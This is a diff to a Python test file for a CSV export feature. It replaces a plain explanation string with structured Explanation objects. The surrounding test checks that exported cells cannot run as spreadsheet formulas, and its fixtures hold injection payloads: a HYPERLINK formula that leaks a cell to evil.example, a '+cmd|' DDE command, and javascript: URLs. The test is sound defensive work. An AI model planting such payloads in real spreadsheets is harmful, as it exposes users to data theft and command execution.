@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 
 from connect_fixtures import SUGGESTIONS, make_suggestion
+from staffpulse.connect.explanation import CircleTie, Explanation
 from staffpulse.connect.export import (
     CSV_COLUMNS,
     FORMATS,
@@ -92,7 +93,7 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
         make_suggestion(1, "evil_staff", "1", url="javascript:alert(2)"),
         display_name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
         role="+cmd|'/C calc'!A0",
-        explanation="-2+3 @SUM(A1) and more",
+        reasons=Explanation(None, ("-2+3 @SUM(A1) and more",)),
     )
     tabbed = replace(make_suggestion(2, "tab", "2", url="data:text/html,x"), display_name="\t=1+1")
     carriage = replace(
@@ -381,7 +382,7 @@ def test_an_exported_explanation_names_the_month_it_means() -> None:
     from staffpulse.models import Account
 
     recent = replace(
-        SUGGESTIONS[1], explanation="HR pro · 2 people in your circle replied to them this month"
+        SUGGESTIONS[1], reasons=Explanation("HR pro", (CircleTie(2, "replied to", recent=True),))
     )
     report = SuggestReport(
         account=Account(platform="bluesky", id="did:plc:abc", handle="acme.bsky.social"),
